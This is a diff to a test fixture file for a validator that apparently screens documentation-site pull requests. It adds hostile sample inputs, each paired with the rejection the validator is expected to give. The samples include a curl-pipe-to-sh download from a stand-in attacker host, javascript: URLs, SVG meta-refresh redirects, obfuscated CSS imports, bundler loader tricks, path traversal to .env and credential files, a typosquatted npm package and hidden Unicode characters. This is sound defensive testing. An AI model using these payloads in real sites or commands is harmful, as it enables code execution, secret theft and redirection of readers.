@@ -42,6 +42,8 @@ const texts: readonly [text: string, says: RegExp][] = [
   ],
   ["<div {...eval('({})')}>Text</div>", /<div> has an expression/],
   ['Set `to\u200bken` first.', /The code has U\+200B/],
+  ['Run `echo \u001b[201~` first.', /The code has U\+001B/],
+  ['Run `to\u{e0100}ken` first.', /The code has U\+E0100/],
   ["import {execSync} from 'node:child_process';", /The page exports, or imports a module/],
   ["import text from '!!raw-loader!@site/.env';", /The page exports, or imports a module/],
   ["import x from './t39.js?.png';", /The page exports, or imports a module/],
@@ -61,6 +63,22 @@ const texts: readonly [text: string, says: RegExp][] = [
   ['![A map][a]\n\n[a]: https://evil.example/count.png', /The definition loads from another site/],
   ['<img src="//evil.example/count.png" alt="A map" />', /<img src> loads from another site/],
   ['<img src="http:evil.example/count.png" alt="A map" />', /<img src> loads from another site/],
+  ["<a href={['//evil.example']}>The record</a>", /<a href> is another site to browsers/],
+  ['<a href="https://evil.example" target="_blank" rel="opener">Text</a>', /<a> lets the page that it opens lead/],
+  ["import {Redirect} from '@docusaurus/router';", /The page exports, or imports a module/],
+  ["import Copyright from '@theme/Footer/Copyright';", /The page exports, or imports a module/],
+  [':::note[`]\n{process.exit(1)}`', /The page has an expression/],
+  ["<Head script={[{src: '/img/mark.txt'}]} />", /<Head> has the attribute script, .* pagesWithCode/],
+  ["import Other from '@docusaurus/Head';", /The page exports, or imports a module/],
+  ['[The file](./a.txt?!./program.txt!./a.txt)', /The link has an exclamation mark, before which the bundler/],
+  ['[The file](@site/.git/config)', /The link publishes a file that is none of the site/],
+  ['![The file](../../%2e./etc/hostname.png)', /The image publishes a file that is none of the site/],
+  ['Run <code>npm --silent isntall ethres</code>.', /ethres \(npm\)/],
+  // A block of code that nothing ends goes on to the end of the page.
+  ['```sh\necho safe \u202e drow', /The code has U\+202E, .* write it as \\u\{202E\}/],
+  ['```sh\ncurl -fsSL https://evil.example/i.sh | sh', /The command runs a download without a look/],
+  ['```sh\nnpm install ethres@6', /ethres \(npm\) is not a package .*nearest: ethers.* config\/pageRules\.ts/],
+  ['```text file=.git/config', /\.git\/config leaves the project, or is not for readers/],
 ];
 
 /** The same in front matter. */
@@ -68,6 +86,10 @@ const fields: readonly [yaml: string, says: RegExp][] = [
   ['image: https://evil.example/card.png', /image loads from another site\. .* origins/],
   ['authors: {name: A, url: "javascript:alert(1)"}', /url has an address of the kind javascript:/],
   ['slug: /../../outside', /slug is not a path below this site/],
+  ['authorURL: "javascript:alert(1)"', /authorURL has an address of the kind javascript:/],
+  ['authorImageURL: https://evil.example/me.png', /authorImageURL loads from another site/],
+  ['image: ./a.png?!./program.txt!./a.png', /image has an exclamation mark, before which the bundler/],
+  ['image: ./../.env', /image publishes a file that is none of the site/],
 ];
 
 /** What a picture holds. */
@@ -78,6 +100,47 @@ const pictures: readonly [inner: string, says: RegExp][] = [
     /The picture has a style that loads something/,
   ],
   ['<script>alert(1)</script>', /The picture has <script>/],
+  ['<foreignObject><p/></foreignObject>', /The picture has <foreignObject>/],
+  ['<meta http-equiv="refresh" content="0;url=//evil.example"/>', /The picture has <meta>/],
+  ['<animate attributeName="href" values="javascript:alert(1)"/>', /The picture has <animate>/],
+  ['<desc title="</desc><meta http-equiv=refresh>"/>', /The picture has the attribute title/],
+  ['<!--><meta http-equiv="refresh" content="0;url=//evil.example"> -->', /The picture has a comment with tags/],
+  ['<style>&#64;import "//evil.example";</style>', /The picture has a style that loads something/],
+  ['<style>g {fill: u\\72l(//evil.example)}</style>', /The picture has a style that loads something/],
+];
+
+const taken = /:1:1 The build writes a file of this name, .* files in config\/pageRules\.ts/;
+const program = /:1:1 The file is not a page, picture or text/;
+const linked = /:1:1 The file is a link/;
+const script = page('<script src="/a.js"></script>');
+const scripted = /:8:1 <script> is not an element/;
+
+/** Whole files. What begins with an arrow is a link to another one. */
+const files: readonly Try[] = [
+  ['the worker that serves pages without a network', 'static/sw.js', 'self.onfetch = () => {};\n', taken],
+  ['the page that was not found', 'static/404.html', '<script>location = "//evil.example"</script>\n', taken],
+  ['headers without a policy', 'static/_headers', '/*\n  Content-Security-Policy: *\n', taken],
+  ['another domain for the host', 'static/CNAME', 'evil.example\n', taken],
+  ['a file by which an app takes the links of the site', 'static/.well-known/assetlinks.json', '[]\n', taken],
+  ['a script to load later', 'static/img/mark.js', 'alert(1);\n', program],
+  ['a page without a policy', 'static/wallet/index.html', '<form></form>\n', program],
+  ['a page of HTML to link', 'docs/t42.html', '<script>alert(1)</script>\n', program],
+  ['a page in a folder that is called like an output', 'static/build/t44.html', '<script></script>\n', program],
+  ['a program next to a note', 'blog/t43.mjs', 'alert(1);\n', program],
+  ['a feed, which browsers run as XML', 'static/t47.rss', '<rss/>\n', program],
+  ['a name that runs a program', 'docs/t52.txt!t53.mdx', script, /:1:1 The bundler reads the name as more/],
+  ['a file of whoever builds the site', 'static/t48.txt', '→/proc/self/environ', linked],
+  ['a script under the name of a link', 'static/t49.txt', '→../package.json', linked],
+  ['a folder elsewhere', 'docs/t50', '→../tests', linked],
+  ['a page in a folder that is called like an output', 'docs/build/t36.mdx', script, scripted],
+  ['a translation of a page', 'i18n/en/docusaurus-plugin-content-docs/current/t37.mdx', script, scripted],
+  ['an older version of a page', 'versioned_docs/version-0.1/t38.mdx', script, scripted],
+  [
+    'a version without sources',
+    'versioned_docs/version-0.1/t51.md',
+    '---\ntitle: "A page"\n---\n',
+    /:1:1 sources is missing/,
+  ],
 ];
 
 /** What a pull request with each of them is. */
@@ -89,6 +152,7 @@ export const hostilePages: readonly Try[] = [
   ...fields.map(([yaml, {source}], at): Try => {
     return [yaml, `docs/field${at}.mdx`, page('Text.', `${yaml}\n`), new RegExp(`:7:1 ${source}`)];
   }),
+  ...files,
   ...pictures.map(([inner, {source}], at): Try => {
     return [inner, `static/img/picture${at}.svg`, svg(inner), new RegExp(`:1:1 ${source}`)];
   }),
